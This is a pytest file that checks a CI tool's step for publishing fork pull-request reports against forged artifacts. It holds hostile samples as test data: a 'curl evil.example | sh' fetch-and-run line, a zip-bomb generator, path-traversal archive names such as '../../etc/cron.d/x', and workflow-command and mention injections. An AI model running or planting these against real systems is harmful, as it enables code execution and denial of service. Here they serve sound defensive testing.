"""What a pull request's own run found is published from another one, whatever the artifact says."""

import io
import itertools
import json
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from align_ci import archived, checking, ci, relaying
from align_ci.github.connection import Bounds
from align_ci.opening import Invocation
from align_ci.report import saved
from tests.github_api.emulator import REPOSITORY
from tests.github_api.faults import Faults, answer, cut
from tests.github_api.proxy import GitHub, Reply
from tests.github_api.runs import artifact, workflow_run
from tests.projects import write
from tests.repositories import commit

FORK = "stranger/demo"
RUN = 77
BRANCHES = (f"fork-{number}" for number in itertools.count())
SPEC = """
from align_ci.authoring import NodeType, StepSpecification
STEP = StepSpecification(step_type="Step", node_type=NodeType.SOURCE)
"""
LABELLED = "it is no verdict of this repository"

Capture = pytest.CaptureFixture[str]
Change = Callable[[dict[str, Any]], object]


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The report of a project with one finding."""
    root = write(tmp_path_factory.mktemp("project") / "work", {"spec.py": SPEC})
    commit(root, {})
    done = checking.check(Invocation(root, overrides={"loader": "static"}))
    return saved.dump(done.report)


def packed(*files: tuple[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of a name that is there twice
        for name, text in files:
            made.writestr(name, text)
    return stream.getvalue()


def patched(archive: bytes, at: int, value: bytes) -> bytes:
    """An archive of one file with something else in both of its headers.

    Args:
        archive: The archive.
        at: Where it stands in the header before the file.
        value: What to put there.
    """
    changed = bytearray(archive)
    for start in (at, archive.index(b"PK\x01\x02") + at + 2):
        changed[start : start + len(value)] = value
    return bytes(changed)


def bomb(said: int) -> bytes:
    """One GB of zeros, packed; the archive says it has another size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(1024**2)) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as made:
        made.writestr(archived.MEMBER, piece * 1024 + packer.flush())
    deflated = patched(stream.getvalue(), 8, zipfile.ZIP_DEFLATED.to_bytes(2, "little"))
    return patched(deflated, 22, said.to_bytes(4, "little"))


class Recipe:
    """A pull request from a fork, the run that ended, and the workflow that publishes."""

    def __init__(self, github: GitHub, storage: Faults, folder: Path) -> None:
        self.github, self.storage, self.folder = github, storage, folder
        self.branch = next(BRANCHES)
        self.number, self.sha = github.emulator.pull_request(self.branch, {"a.py": "a = 1\n"})
        self.token = github.emulator.workflow_token()
        path = f"/repos/{REPOSITORY}/pulls/{self.number}"
        self.pull = github.emulator.ask("GET", path)
        self.pull["head"]["repo"] = {**self.pull["head"]["repo"], "full_name": FORK}
        self.pulls = [self.pull]
        self.attempts = 0
        self.artifacts = [artifact(9, "align-ci-report")]
        self.run = workflow_run(
            RUN,
            self.sha,
            ".github/workflows/alignment.yml",
            event="pull_request",
            head_branch=self.branch,
            head_repository=FORK,
        )

    def publish(self, archive: bytes, **inputs: str) -> int:
        """The exit code of a step that publishes this artifact."""
        self.github.runs[:] = [self.run]
        self.github.artifacts[RUN] = self.artifacts
        self.github.archives[9] = f"{self.storage.address}/signed"
        self.storage.steps[:] = [answer(200, archive)]
        # Emulate has no forks.
        listed = f"^/repos/{REPOSITORY}/pulls$"
        self.github.once("GET", listed, lambda: Reply.of(200, self.pulls))
        return self.step(self.github.address, **inputs)

    def step(self, address: str, event: str = "workflow_run", **inputs: str) -> int:
        self.attempts += 1
        payload = self.folder / "event.json"
        payload.write_text(json.dumps({"workflow_run": {"id": RUN, "pull_requests": []}}))
        self.output, self.summary = self.folder / "output", self.folder / "summary"
        self.output.write_text("")
        self.summary.write_text("")
        environ = {
            "GITHUB_ACTIONS": "true",
            "GITHUB_API_URL": address,
            "GITHUB_EVENT_NAME": event,
            "GITHUB_EVENT_PATH": str(payload),
            "GITHUB_JOB": "publish",
            "GITHUB_OUTPUT": str(self.output),
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_RUN_ATTEMPT": "1",
            "GITHUB_RUN_ID": str(1000 + self.attempts),
            "GITHUB_RUN_NUMBER": str(self.attempts),
            "GITHUB_SERVER_URL": "https://github.com",
            "GITHUB_STEP_SUMMARY": str(self.summary),
            "GITHUB_WORKFLOW_REF": f"{REPOSITORY}/.github/workflows/p.yml@refs/heads/main",
            "GITHUB_WORKSPACE": str(self.folder),
        }
        return ci.run({"mode": "publish", "token": self.token, **inputs}, environ)

    def comments(self, number: int = 0) -> list[str]:
        path = f"/repos/{REPOSITORY}/issues/{number or self.number}/comments"
        return [one["body"] for one in self.github.emulator.ask("GET", path)]

    @property
    def written(self) -> list[str]:
        """Where anything was written."""
        return [sent.path for sent in self.github.sent if sent.method != "GET"]


@pytest.fixture
def recipe(github: GitHub, server: Faults, tmp_path: Path) -> Recipe:
    return Recipe(github, server, tmp_path)


def test_a_fork_has_a_comment(recipe: Recipe, honest: str, capsys: Capture) -> None:
    assert recipe.publish(packed((archived.MEMBER, honest))) == 0
    (only,) = recipe.comments()
    assert "## ❌ 1 problem blocks this merge" in only
    assert LABELLED in only
    assert f"https://github.com/{REPOSITORY}/blob/{recipe.sha}/spec.py#L3" in only
    assert f"https://github.com/{REPOSITORY}/actions/runs/{RUN}" in only
    assert recipe.written == [f"/repos/{REPOSITORY}/issues/{recipe.number}/comments"]
    said = f"pull request #{recipe.number} has a comment"
    assert said in capsys.readouterr().out
    assert "has a comment" in recipe.summary.read_text()
    assert "verdict=\n" in recipe.output.read_text()
    assert recipe.publish(packed((archived.MEMBER, honest))) == 0
    assert recipe.comments() == [only]
    assert "says all of this already" in capsys.readouterr().out


def forged(honest: str, change: Change) -> bytes:
    tree = json.loads(honest)
    change(tree)
    return packed((archived.MEMBER, json.dumps(tree)))


def pass_it(tree: dict[str, Any]) -> None:
    tree.update(verdict="pass", exit_code=0, findings=[])


def another_commit(tree: dict[str, Any]) -> None:
    tree["commit"] = {"sha": "f" * 40, "files_url": f"https://evil.example/x/y/blob/{'f' * 40}"}
    tree["base"] = {"sha": "e" * 40, "files_url": ""}
    tree["tool"] = "align-ci 1; curl evil.example | sh"


def test_a_forged_pass_is_labelled_and_nothing_waits_for_it(recipe: Recipe, honest: str) -> None:
    assert recipe.publish(forged(honest, pass_it), comment="always") == 0
    (only,) = recipe.comments()
    assert LABELLED in only
    assert recipe.written == [f"/repos/{REPOSITORY}/issues/{recipe.number}/comments"]
    assert "verdict=\n" in recipe.output.read_text()


def test_what_it_says_of_commit_and_tool_is_not_used(recipe: Recipe, honest: str) -> None:
    assert recipe.publish(forged(honest, another_commit)) == 0
    (only,) = recipe.comments()
    assert f"/blob/{recipe.sha}/spec.py" in only
    for word in ("evil", "curl", "f" * 7, "e" * 7):
        assert word not in only


@pytest.mark.parametrize(
    ("folder", "kept"), [("/a/b-c", "/a/b-c"), ("/../../x", ""), ("/a%2f..", ""), ("/a?b", "")]
)
def test_of_its_address_only_a_folder_is_used(
    recipe: Recipe, honest: str, folder: str, kept: str
) -> None:
    def change(tree: dict[str, Any]) -> None:
        url = f"https://evil.example/x/y/blob/{'f' * 40}{folder}"
        tree["commit"] = {"sha": "f" * 40, "files_url": url}

    recipe.publish(forged(honest, change))
    assert f"demo/blob/{recipe.sha}{kept}/spec.py" in recipe.comments()[0]


def test_another_pull_request_in_it_is_nobodys(recipe: Recipe, honest: str) -> None:
    other, _ = recipe.github.emulator.pull_request(next(BRANCHES), {"b.py": "b = 1\n"})

    def change(tree: dict[str, Any]) -> None:
        tree["notices"] = [f"pull request #{other} of @acme/owners"]

    assert recipe.publish(forged(honest, change)) == 0
    assert recipe.comments(other) == []
    (only,) = recipe.comments()
    assert "@acme" not in only
    assert recipe.publish(forged(honest, lambda tree: tree.update(number=other))) == 4
    assert recipe.comments(other) == []
    assert recipe.comments() == [only]


def mark(tree: dict[str, Any]) -> None:
    tree["findings"][0]["fingerprint"] = "--> @acme <!-- "


def command(tree: dict[str, Any]) -> None:
    tree["findings"][0]["rule"] = "ALN101; curl evil.example | sh"


@pytest.mark.parametrize(
    "change",
    [
        mark,
        command,
        lambda tree: tree.update(schema_version="9"),
        lambda tree: tree.update(verdict="great"),
        lambda tree: tree.pop("checks"),
    ],
    ids=["a mark", "a command", "another version", "no verdict", "a part is missing"],
)
def test_no_report_of_ours(recipe: Recipe, honest: str, change: Change, capsys: Capture) -> None:
    assert recipe.publish(forged(honest, change)) == 4
    assert recipe.written == []
    assert "::error title=align-ci publish::it could not be published" in capsys.readouterr().out


TOO_MUCH, TWICE = "has more than", "has to hold align-ci.json and nothing else"
NAME = archived.MEMBER
ARCHIVES: dict[str, tuple[Callable[[], bytes], str]] = {
    "a GB": (lambda: bomb(1024**3), TOO_MUCH),
    "a GB that says it is small": (lambda: bomb(1000), "cannot be read"),
    "too long": (lambda: bytes(archived.ARCHIVE_LIMIT + 1), "more than"),
    "up": (lambda: packed((f"../{NAME}", "{}")), TWICE),
    "absolute": (lambda: packed((f"/{NAME}", "{}")), TWICE),
    "and something else": (lambda: packed((NAME, "{}"), ("../../etc/cron.d/x", "x")), TWICE),
    "twice": (lambda: packed((NAME, "{}"), (NAME, "{}")), TWICE),
    "none": (packed, TWICE),
    "hostile names": (lambda: packed(("x\x1b[1m\n::error::@acme", "x")), TWICE),
    "encrypted": (lambda: patched(packed((NAME, "{}")), 6, b"\x01"), "encrypted"),
    "packed otherwise": (lambda: patched(packed((NAME, "{}")), 8, b"\x0c"), "unusual way"),
    "damaged": (lambda: patched(packed((NAME, "{}")), 14, b"\0\0\0\0"), "cannot be read"),
    "no archive": (lambda: b"PK", "cannot be read"),
    "no JSON": (lambda: packed((NAME, "nothing")), "not a report"),
    "deep": (lambda: packed((NAME, "[" * 100_000)), "not a report"),
    "no text": (lambda: packed((NAME, b"\xff\xfe")), "what the artifact has is"),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_archives_that_are_refused(recipe: Recipe, name: str, capsys: Capture) -> None:
    make, reason = ARCHIVES[name]
    archive = make()
    tracemalloc.start()
    try:
        assert recipe.publish(archive) == 4
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * archived.MEMBER_LIMIT
    said = capsys.readouterr().out
    assert reason in said
    for harm in ("\n::error::", "%0A", "\x1b"):
        assert harm not in said
    assert recipe.written == []
    assert sorted(each.name for each in recipe.folder.iterdir()) == [
        "event.json",
        "output",
        "summary",
    ]


def test_an_archive_that_is_said_to_be_too_long_is_not_asked_for(
    recipe: Recipe, honest: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(archived, "ARCHIVE_LIMIT", 999)
    assert recipe.publish(packed((archived.MEMBER, honest))) == 4
    assert recipe.storage.asked == []


def closed(recipe: Recipe) -> None:
    recipe.pull["state"] = "closed"


def pushed(recipe: Recipe) -> None:
    recipe.pull["head"]["sha"] = "f" * 40


def other_fork(recipe: Recipe) -> None:
    recipe.pull["head"]["repo"]["full_name"] = "other/demo"


def fork_is_gone(recipe: Recipe) -> None:
    recipe.pull["head"]["repo"] = None


def other_base(recipe: Recipe) -> None:
    recipe.pull["base"]["repo"]["full_name"] = FORK


def none(recipe: Recipe) -> None:
    recipe.pulls.clear()


def two(recipe: Recipe) -> None:
    recipe.pulls.append(recipe.pull | {"number": recipe.number + 1})


def by_push(recipe: Recipe) -> None:
    recipe.run["event"] = "push"


def gone(recipe: Recipe) -> None:
    recipe.run["head_repository"] = None


@pytest.mark.parametrize(
    "change",
    [closed, pushed, other_fork, fork_is_gone, other_base, none, two, by_push, gone],
    ids=lambda change: change.__name__,
)
def test_nothing_to_publish(
    recipe: Recipe, honest: str, change: Callable[[Recipe], None], capsys: Capture
) -> None:
    change(recipe)
    assert recipe.publish(packed((archived.MEMBER, honest))) == 0
    assert recipe.written == []
    assert "nothing was published: " in capsys.readouterr().out
    assert "nothing was published" in recipe.summary.read_text()


def test_no_such_artifact(recipe: Recipe, honest: str, capsys: Capture) -> None:
    assert recipe.publish(packed((archived.MEMBER, honest)), artifact="other") == 0
    assert f"run {RUN} left no artifact `other`" in capsys.readouterr().out
    assert recipe.written == []


def test_of_several_attempts_the_last_one_counts(recipe: Recipe, honest: str) -> None:
    recipe.artifacts[:] = [artifact(number, "align-ci-report") for number in (8, 9, 7)]
    assert recipe.publish(packed((archived.MEMBER, honest))) == 0
    assert len(recipe.comments()) == 1


def test_an_artifact_that_has_expired(recipe: Recipe, honest: str, capsys: Capture) -> None:
    recipe.artifacts[:] = [artifact(9, "align-ci-report", expired=True)]
    assert recipe.publish(packed((archived.MEMBER, honest))) == 4
    assert "it could not be published: the artifact" in capsys.readouterr().out
    assert recipe.storage.asked == []


@pytest.mark.parametrize("step", [answer(403), answer(404), answer(200, b"<html>"), cut])
def test_who_gets_no_answer_says_so(
    github: GitHub,
    server: Faults,
    tmp_path: Path,
    capsys: Capture,
    monkeypatch: pytest.MonkeyPatch,
    step: Any,
) -> None:
    monkeypatch.setattr(relaying, "_PATIENCE", Bounds(tries=1))
    recipe = Recipe(github, server, tmp_path)
    server.then(step)
    assert recipe.step(server.address) == 4
    said = capsys.readouterr().out
    assert "it could not be published: cannot read the run" in said
    assert recipe.token not in said + recipe.summary.read_text()


def test_a_token_that_may_not_write(recipe: Recipe, honest: str, capsys: Capture) -> None:
    permissions = {"actions": "read", "pull_requests": "read"}
    recipe.token = recipe.github.emulator.workflow_token(permissions)
    assert recipe.publish(packed((archived.MEMBER, honest))) == 4
    assert "pull-requests: write" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("event", "inputs"),
    [
        ("pull_request", {}),
        ("push", {}),
        ("workflow_run", {"check_name": "alignment"}),
        ("workflow_run", {"token": ""}),
    ],
)
def test_where_it_cannot_be_asked_for(
    recipe: Recipe, event: str, inputs: dict[str, str], capsys: Capture
) -> None:
    assert recipe.step(recipe.github.address, event, **inputs) == 2
    assert recipe.github.sent == []
    assert "publish" in capsys.readouterr().out
